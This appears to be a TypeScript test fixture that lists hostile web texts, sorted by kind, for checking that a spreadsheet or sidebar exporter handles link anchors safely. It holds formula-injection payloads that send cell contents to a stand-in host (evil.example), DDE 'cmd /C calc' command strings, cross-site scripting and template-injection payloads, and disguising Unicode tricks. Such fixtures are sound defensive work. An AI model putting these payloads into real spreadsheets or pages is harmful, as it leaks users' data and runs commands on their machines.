// Texts of the web that attack a spreadsheet, a sidebar or a program that reads them, by the name of what each one
// is. Data only; where they turn up is oddities.ts' business.

export interface HostileText {
  /** Stable name, for tests that look for every kind. */
  readonly kind: string;
  readonly text: string;
}

const named = (kinds: Readonly<Record<string, string>>): readonly HostileText[] =>
  Object.entries(kinds).map(([kind, text]) => ({ kind, text }));

/** Every site of some size has these among its anchors, more than once. */
export const COMMON_HOSTILE_TEXTS = named({
  "hyperlink-that-tells": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "plus-and-words": "+1 for this",
  "negative-number": "-1",
  "at-function": "@SUM(1+1)",
  "apostrophe-and-formula": "'=1+1",
  "tab-and-words": "\tindented",
  formula: "=1+1",
  script: "<script>alert(1)</script>",
  "quotes-and-comma": '"quoted, with comma"',
  "two-lines": "two\nlines",
  hebrew: "שלום עולם",
  emoji: "🔥🔥 Top 10 🔥🔥",
  "half-or-date": "1/2",
  long: "very long anchor ".repeat(40).trim(),
  "markup-and-entity": "<b>bold</b> &amp; more",
  "boolean-true": "TRUE",
  "leading-zeros-short": "0012",
  "error-reference": "#REF!",
  japanese: "日本語のリンク",
});

const FORMULAS = named({
  hyperlink: '=HYPERLINK("https://evil.example","click")',
  "import-xml": '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
  image: '=IMAGE("https://evil.example/p.png?"&A1)',
  command: "=cmd|' /C calc'!A0",
  "plus-command": "+cmd|' /C calc'!A0",
  "minus-formula": "-2+3+cmd|' /C calc'!A0",
  "at-command": "@SUM(1+1)*cmd|' /C calc'!A0",
  "tab-and-formula": "\t=1+1",
  "newline-and-formula": "\n=1+1",
  "carriage-return-and-formula": "\r=1+1",
  "line-end-and-formula": "\r\n=1+1",
  "blank-and-formula": " =1+1",
  "no-break-blank-and-formula": "\u00a0=1+1",
  "zero-width-blank-and-formula": "\u200b=1+1",
  "byte-order-mark-and-formula": "\ufeff=1+1",
  "bidi-mark-and-formula": "\u200f=1+1",
  "nul-and-formula": "\u0000=1+1",
  "tab-and-plus": "\t+1+1",
  "no-break-blank-and-minus": "\u00a0-1+1",
  "newline-and-at": "\n@SUM(1+1)",
  "tab-and-apostrophe": "\t'=1+1",
  "wide-equals": "＝1+1",
  "wide-plus": "＋1+1",
  "wide-minus": "－1+1",
  "wide-at": "＠SUM(1+1)",
});

const LOOK_ALIKES = named({
  number: "1234.56",
  "number-with-commas": "1,234.56",
  "number-with-points": "1.234,56",
  "number-too-long": "12345678901234567890",
  exponent: "1E5",
  "leading-zeros": "00123",
  percentage: "50%",
  money: "$1,000.00",
  phone: "+1 (555) 010-9999",
  "phone-with-zeros": "0049 30 5550100",
  "date-iso": "2026-11-23",
  "date-american": "11/23/2026",
  "date-german": "23.11.2026",
  "date-in-words": "Nov 23, 2026",
  "month-or-name": "MAR1",
  "day-and-month": "1-2",
  fraction: "3/4",
  time: "12:30",
  "boolean-false": "FALSE",
  "error-value": "#N/A",
  "loading-text": "Loading...",
  "not-a-number": "NaN",
  "null-text": "null",
});

const QUOTES = named({
  apostrophe: "'",
  "apostrophe-and-words": "'quoted'",
  "two-apostrophes": "''twice",
  quote: '"',
  "quote-that-ends-the-field": '","=1+1","',
  "commas-and-semicolons": 'a,"b";c,;',
  semicolon: ";",
  backslash: "\\",
  "prototype-name": "__proto__",
  "constructor-name": "constructor",
});

const MARKUP = named({
  "image-with-handler": '<img src=x onerror="alert(1)">',
  "script-end": "</script><script>alert(1)</script>",
  "textarea-end": "</textarea><svg/onload=alert(1)>",
  "comment-start": "<!-- never closed",
  "attribute-end": '" onmouseover="alert(1)',
  "script-address": "javascript:alert(1)",
  "escaped-markup": "&lt;script&gt;alert(1)&lt;/script&gt;",
  "template-braces": "{{x}}",
  "template-code": "{{constructor.constructor('alert(1)')()}}",
  scriptlet: "<? x ?>",
  "scriptlet-unescaped": "<?!= x ?>",
  "dollar-braces": `\${alert(1)}`,
  "format-letters": "%s %d %n",
});

const CHARACTERS = named({
  "bidi-override": "\u202egpj.exe\u202c",
  "bidi-isolates": "\u2067right\u2066left",
  "zero-width": "a\u200b\u200c\u200d\u2060b",
  arabic: "مرحبا بالعالم 123",
  "emoji-family": "👨‍👩‍👧‍👦 🏳️‍🌈",
  "combining-marks": `Z${"\u0351\u036b\u0343\u036a".repeat(8)}algo`,
  "high-surrogate-alone": "cut \ud83d",
  "low-surrogate-alone": "\udd25 cut",
  "nul-inside": "nul\u0000inside",
  controls: "bell\u0007 escape\u001b[31m delete\u007f next\u0085",
  "line-separators": "a\u2028b\u2029c",
  "no-character": "\ufffe\uffff",
  "blank-alone": " ",
  "tabs-and-lines-alone": "\t\n\r ",
  "no-break-blank-alone": "\u00a0",
  "zero-width-blank-alone": "\u200b",
});

/** The most that a cell of a spreadsheet holds. */
const CELL_CHARACTERS_MAX = 50_000;

/** One row of a site has one of these: answers stay small. */
export const HUGE_TEXTS = named({
  "fills-a-cell": "long title ".repeat(5_000).slice(0, CELL_CHARACTERS_MAX),
  "formula-that-fills-a-cell": `="${"a".repeat(CELL_CHARACTERS_MAX - 3)}"`,
});

/** All kinds but the huge ones, the common ones first. No two have the same text. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...COMMON_HOSTILE_TEXTS,
  ...FORMULAS,
  ...LOOK_ALIKES,
  ...QUOTES,
  ...MARKUP,
  ...CHARACTERS,
];
